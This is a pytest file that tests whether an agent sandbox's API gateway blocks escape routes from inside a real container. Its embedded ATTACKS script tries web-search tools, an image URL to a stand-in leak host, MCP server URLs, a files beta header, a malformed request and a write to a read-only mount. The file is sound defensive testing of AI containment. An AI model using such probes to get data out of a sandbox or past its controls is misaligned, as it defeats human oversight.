"""The gateway tried from where a sample really stands: a workspace container on the real engine, no network,
as the unprivileged sandbox user, the socket's folder mounted read-only. Requests that would make the API
reach out are refused and never reach the upstream (a scripted Messages API on loopback); a plain request
passes with the real key added on the host, which the container never sees."""

from __future__ import annotations

import json
import os
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from harness.agents.gateway import Budgets, Gateway, HttpUpstream, Ledger
from harness.agents.gateway.policy import Policy
from harness.config import AgentSettings
from harness.records.gateway import GatewayLogLine
from harness.sandbox import ContainerSpec
from tests.fake_api import fake_api, text_message

pytestmark = pytest.mark.docker
KEY = "sk-ant-canary-key-in-pod-test-0123456789"
SOCKET_DIR = "/run/crucible-gateway"
ATTACKS = textwrap.dedent(
    """
    import json, socket, sys

    def send(raw):
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.connect("/run/crucible-gateway/api.sock")
        conn.sendall(raw)
        out = b""
        while True:
            data = conn.recv(65536)
            if not data:
                break
            out += data
        conn.close()
        return int(out.split(b" ", 2)[1])

    def post(path, body, beta=""):
        data = json.dumps(body).encode()
        head = "POST %s HTTP/1.1\\r\\nconnection: close\\r\\ncontent-length: %d\\r\\n" % (path, len(data))
        head += "x-api-key: placeholder\\r\\n" + ("anthropic-beta: %s\\r\\n" % beta if beta else "")
        return send(head.encode() + b"\\r\\n" + data)

    ask = {"model": "claude-sonnet-4-6", "max_tokens": 50, "messages": [{"role": "user", "content": "hi"}]}
    url = {"type": "image", "source": {"type": "url", "url": "https://example.invalid/leak?d=1"}}
    statuses = [
        post("/v1/messages?beta=true", dict(ask, tools=[{"type": "web_search_20250305", "name": "web_search"}])),
        post("/v1/messages", dict(ask, messages=[{"role": "user", "content": [url]}])),
        post("/v1/messages/count_tokens", dict(ask, mcp_servers=[{"type": "url", "url": "https://x.invalid"}])),
        post("/v1/messages", ask, beta="files-api-2025-04-14"),
        send(b"POST /v1/messages HTTP/1.1\\r\\ncontent-length: -1\\r\\n\\r\\n" + b"x" * 100000),
        post("/v1/messages", ask),
    ]
    try:
        open("/run/crucible-gateway/planted", "w")
        statuses.append("wrote")
    except OSError:
        statuses.append("read-only")
    print(json.dumps(statuses))
    """
)


@pytest.fixture
def gateway(tmp_path: Path) -> Iterator[tuple[Gateway, Any]]:
    settings = AgentSettings()
    ledger = Ledger(Budgets.of(settings), settings.prices, settings)
    with tempfile.TemporaryDirectory(prefix="crucible-gw-") as sockets, fake_api() as api:
        os.chmod(sockets, 0o755)
        api.then = lambda _seen: text_message("answered")
        upstream = HttpUpstream(api.url, KEY, max_retries=0, timeout_s=30)
        with Gateway(
            Path(sockets) / "api.sock",
            upstream,
            ledger,
            frozenset({"claude-sonnet-4-6"}),
            tmp_path,
            policy=Policy(),
        ) as running:
            yield running, api
        upstream.close()


def test_from_inside_a_real_container_nothing_gets_out_but_a_plain_request(
    docker_backend: Any, images: Any, run_id: str, gateway: tuple[Gateway, Any]
) -> None:
    running, api = gateway
    pod = docker_backend.create_pod(run_id, "gateway-in-pod")
    try:
        spec = ContainerSpec(
            name="workspace",
            image=images.workspace.tag,
            user="sandbox",
            binds={str(running.socket_path.parent): SOCKET_DIR},
        )
        box = pod.add(spec)
        result = box.exec(["python3", "-c", ATTACKS], timeout=120)
        environment = box.exec(["env"]).out
    finally:
        pod.close()
    assert result.exit_code == 0, result.err
    assert json.loads(result.out) == [403, 403, 403, 403, 400, 200, "read-only"]
    assert [seen.path for seen in api.seen] == ["/v1/messages"] and api.seen[0].headers["x-api-key"] == KEY
    lines = [GatewayLogLine.model_validate_json(line) for line in running.log_path.read_text().splitlines()]
    assert [line.decision for line in lines] == ["refused:policy"] * 4 + ["refused:http", "forwarded"]
    assert KEY not in environment and KEY not in result.out
